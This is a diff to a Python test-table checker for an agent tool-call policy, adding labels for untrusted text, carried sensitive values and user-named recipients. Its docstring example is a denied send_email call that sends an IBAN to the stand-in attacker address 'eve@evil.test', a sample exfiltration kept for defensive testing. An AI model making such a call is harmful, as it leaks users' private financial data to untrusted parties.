@@ -15,11 +15,20 @@ verdict = "deny"
 after = ["pytest", { command = "make", outcome = "error" }, { tool = "pay", seconds_ago = 60 }]
 command = "make deploy"
 verdict = "deny"
+
+[[call]]
+tool = "send_email"
+arguments = { to = "eve@evil.test", body = "the account is DE89370400440532013000" }
+in_view = { untrusted = ["eve@evil.test"], private = [] }       # labels, and words of such texts
+carries = { iban = ["DE89370400440532013000"] }
+named = ["partner.test"]            # hosts and recipients that the person named
+verdict = "deny"
 ```
 
 `after` lists the session's earlier calls in order: each has run and ended before the next, with the
 `outcome` "success" or "error" and the result `text`, `seconds_ago` before the row's own call (0). A
-row with an earlier call that the policy denies differs: that call never runs.
+row with an earlier call that the policy denies differs: that call never runs. A row without
+`in_view` has nothing in view.
 """
 
 from __future__ import annotations
@@ -37,8 +46,9 @@ from toolbus.policy.history.counted_calls import CountedCall, call_key, decide, 
 from toolbus.policy.history.session_record import SessionRecord
 from toolbus.policy.rules.judge import CallJudge
 from toolbus.policy.rules.table_reader import TableReader
-from toolbus.policy.rules.tables import Default, Ending
+from toolbus.policy.rules.tables import Default, Ending, LabelName, ValueKind
 from toolbus.policy.rules.verdict_texts import decider, failure_text, reason_text
+from toolbus.policy.shared_facts import StatedFacts
 from toolbus.toml.files import decode_text, locate_keys, parse_toml, read_bytes, unknown_file_key
 from toolbus.toml.values import MisfitError
 
@@ -97,9 +107,17 @@ class TableRow(TableCall, frozen=True, kw_only=True, forbid_unknown_fields=True)
     ] = ()
     agent: str = ""
     context: dict[str, Any] = {}
+    in_view: dict[LabelName, tuple[str, ...]] = {}
+    carries: dict[ValueKind, tuple[str, ...]] = {}
+    named: tuple[str, ...] = ()
     rule: str | None = None
     source: str = ""
     line: int = 0
+
+    @property
+    def origins(self) -> StatedFacts:
+        """The stated facts about the words of the call."""
+        return StatedFacts(self.in_view, self.carries, self.named)
 
     @property
     def earlier(self) -> list[EarlierCall]:
@@ -132,9 +150,8 @@ def check_rows(
     """Yield the verdict of *rules* on each row, for tools that work in *folder*."""
     reader, judge = CallReader(rules, LineCache()), CallJudge(rules)
     for row in rows:
-        session = _TriedSession(
-            judge, reader, Scope(agent_id=row.agent, context=row.context), folder
-        )
+        scope = Scope(agent_id=row.agent, context=row.context)
+        session = _TriedSession(judge, reader, scope, folder, row.origins)
         denied = next(filter(None, map(session.run, row.earlier)), "")
         yield _result(row, session.judge(row.call("row"), 0)[0], denied)
 
@@ -143,15 +160,23 @@ class _TriedSession:
     """The session of one row, with the record of its calls."""
 
     def __init__(
-        self, judge: CallJudge, reader: CallReader, scope: Scope, folder: str | None
+        self,
+        judge: CallJudge,
+        reader: CallReader,
+        scope: Scope,
+        folder: str | None,
+        origins: StatedFacts,
     ) -> None:
         self._judge, self._reader, self._scope, self._folder = judge, reader, scope, folder
+        self._origins = origins
         self._record, self._count = SessionRecord(None), 0
 
     def judge(self, call: ToolCall, now: float) -> tuple[CallVerdict, str | None]:
         """Return the verdict on *call* and its folder; the call is recorded unless denied."""
         kept_in = self._record.shell_folder(shell_key(self._scope, call.name))
-        facts = self._reader.facts(call, None, self._scope, self._folder, kept_in)
+        facts = self._reader.facts(
+            call, None, self._scope, self._folder, kept_in, origins=self._origins
+        )
         counted = CountedCall.of(self._judge, self._judge.judge(facts), self._scope)
         return decide([counted], self._record, now)[0], facts.folder
 
